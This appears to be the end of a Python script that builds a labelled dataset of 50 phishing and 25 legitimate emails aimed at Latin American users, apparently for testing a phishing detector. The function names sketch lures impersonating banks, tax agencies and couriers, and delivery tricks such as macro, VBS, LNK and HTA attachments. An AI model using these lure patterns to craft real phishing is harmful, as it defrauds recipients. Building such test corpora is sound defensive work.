         "recipient targeted by the reply-chain hijack.", env, own, body)


# --------------------------------------------------------------------------------------------------


ALL = [
    phish_galicia_token, phish_bnacion_bloqueo, phish_macro_html_adjunto, phish_mercadopago_wp, phish_uala_qr,
    phish_arca_deuda_drive, phish_arca_factura_vbs, phish_correoargentino_aduana, phish_andreani_reprogramar,
    phish_telepase_peaje, phish_edenor_corte, phish_anses_miargentina, phish_mercadolibre_vendedor,
    phish_cedula_judicial_lnk, phish_brou_ebrou, phish_dgi_cfe_iso, phish_bancoestado_cuentarut, phish_bancochile_mipass,
    phish_sii_dte_hta, phish_correoschile_arancel, phish_entel_boleta, phish_mach_tarjeta, phish_claveunica_m365,
    phish_bancolombia_clave, phish_davivienda_token, phish_nequi_verificacion, phish_dian_embargo_dropbox,
    phish_simit_fotomulta, phish_servientrega_js, phish_demanda_rama_smuggling, phish_epm_factura, phish_bcp_token,
    phish_yape_suspension, phish_sunat_docm, phish_olva_entrega, phish_sat_papeleta, phish_pichincha_php,
    phish_sri_onedrive, phish_m365_cuarentena, phish_docusign_contrato, phish_sharepoint_proveedor,
    phish_bec_cambio_cuenta, phish_reply_hijack_exe, phish_ceo_fraude, phish_googleforms_itau,
    phish_callback_mercadolibre, phish_trabajo_whatsapp, phish_inversion_ypf, phish_sextorsion, phish_herencia_bolivia,
    legit_galicia_dispositivo, legit_mercadopago_transferencia, legit_resumen_visa_santander, legit_arca_dfe,
    legit_edenor_factura, legit_mercadolibre_compra, legit_andreani_envio, legit_bancochile_transferencia,
    legit_dte_chile_factura, legit_bancolombia_alerta, legit_gdrive_compartido, legit_factura_electronica_co,
    legit_bcp_constancia, legit_factura_peru_nubefact, legit_pichincha_estado_cuenta, legit_antel_factura,
    legit_lanacion_newsletter, legit_pyar_lista, legit_claveunica_cambio, legit_sharepoint_interno,
    legit_docusign_arriendo, legit_proveedor_cambio_cuenta, legit_estudio_contable_vep, legit_familia_fotos,
    legit_cotizacion_pyme,
]


def main() -> None:
    for build in ALL:
        build()
    attacks = [s for s, *_ in MESSAGES if "-phish-" in s]
    assert len(attacks) == 50 and len(MESSAGES) == 75, (len(attacks), len(MESSAGES))
    write_all()


if __name__ == "__main__":
    main()
